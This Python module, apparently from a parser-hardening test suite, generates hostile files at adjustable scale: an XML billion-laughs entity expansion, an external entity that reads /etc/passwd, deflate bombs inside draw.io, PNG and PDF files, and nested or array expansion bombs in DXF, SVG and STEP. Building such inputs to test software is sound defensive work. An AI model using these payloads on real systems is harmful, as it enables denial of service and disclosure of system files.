"""Files that stand for much more than they are (Klein 2002, "billion laughs"). Each is made for a scale between 0 and 1."""

from __future__ import annotations

import base64
import zlib
from urllib.parse import quote

from siege.hostile_files.writers import (
    PACKED,
    SVG,
    block,
    dxf,
    insert,
    page,
    scaled,
    step,
    stream,
    stream_of,
)


def laughs(scale: float) -> bytes:
    """Entities of entities, which stand for 10^9 characters and more (CVE-2003-1564)."""
    levels = 3 + scaled(scale, 12)
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, levels))
    return f'<!DOCTYPE svg [<!ENTITY e0 "ha">{entities}]>{SVG}<text>&e{levels - 1};</text></svg>'.encode()


def outside(_: float) -> bytes:
    """An entity that names a file of the machine."""
    return f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{SVG}<text x="9" y="9">&x;</text></svg>'.encode()


def packed_diagram(scale: float) -> bytes:
    """A page of draw.io that unpacks to a thousand times its size."""
    text = base64.b64encode(deflated(quote("<mxGraphModel>").encode(), b"%20", scale, -15)).decode()
    return f'<mxfile><diagram name="p" id="p">{text}</diagram></mxfile>'.encode()


def packed_png(scale: float) -> bytes:
    """A PNG whose compressed text unpacks to a thousand times its size."""
    text = deflated(b"<mxfile>", b" ", scale, 15)
    chunks = ((b"IHDR", b"\0\0\0\1\0\0\0\1\x08\0\0\0\0"), (b"zTXt", b"mxfile\0\0" + text), (b"IEND", b""))
    written = b"".join(
        len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big") for kind, data in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + written


def packed_pdf(scale: float) -> bytes:
    """A content stream that unpacks to a thousand times its size."""
    packed = deflated(b"", b"0 0 m 9 9 l S\n", scale, 15)
    return page(b"", b"", b"<<>>").replace(stream(b""), stream_of(packed))


def deflated(head: bytes, filler: bytes, scale: float, window: int) -> bytes:
    """Deflate (RFC 1951; of zlib, RFC 1950, for a positive window) of the head and of PACKED bytes of the filler, or of a part of them."""
    compressor, piece = zlib.compressobj(9, zlib.DEFLATED, window), filler * (1024**2 // len(filler))
    pieces = [compressor.compress(head)]
    pieces += [compressor.compress(piece) for _ in range(scaled(scale, PACKED // len(piece)))]
    return b"".join([*pieces, compressor.flush()])


def block_bomb(scale: float) -> bytes:
    """Blocks of ten blocks each: 10^9 lines and more in a few lines of DXF."""
    levels = 2 + scaled(scale, 10)
    line = "0\nLINE\n10\n0\n20\n0\n11\n9\n21\n9\n"
    blocks = block("b0", line) + "".join(block(f"b{n}", insert(f"b{n - 1}") * 10) for n in range(1, levels))
    return dxf(insert(f"b{levels - 1}"), blocks)


def array_bomb(_: float) -> bytes:
    """One insertion in 32,767 columns and rows."""
    line = "0\nLINE\n10\n0\n20\n0\n11\n9\n21\n9\n"
    return dxf(insert("b", "70\n32767\n71\n32767\n44\n1\n45\n1\n"), block("b", line))


def use_bomb(scale: float) -> bytes:
    """Ten <use> of ten <use>."""
    levels = 2 + scaled(scale, 10)
    groups = "".join(f'<g id="g{n}">{f"""<use xlink:href="#g{n - 1}"/>""" * 10}</g>' for n in range(1, levels))
    return f'{SVG}<defs><path id="g0" d="M0 0h9"/>{groups}</defs><use xlink:href="#g{levels - 1}"/></svg>'.encode()


def assembly_bomb(scale: float) -> bytes:
    """Ten times a part of ten times a part, in the names of Part 21."""
    levels, lines = 2 + scaled(scale, 9), []
    for level in range(levels):
        at = 1000 * level
        lines.append(f"#{at + 1}=PRODUCT('p{level}','','',());#{at + 2}=PRODUCT_DEFINITION_FORMATION('','',#{at + 1});")
        lines.append(f"#{at + 3}=PRODUCT_DEFINITION('','',#{at + 2},$);")
        if level:
            of = f"#{at + 3},#{at - 997},$"
            lines += [f"#{at + 10 + n}=NEXT_ASSEMBLY_USAGE_OCCURRENCE('{n}','','',{of});" for n in range(10)]
    return step("".join(lines))
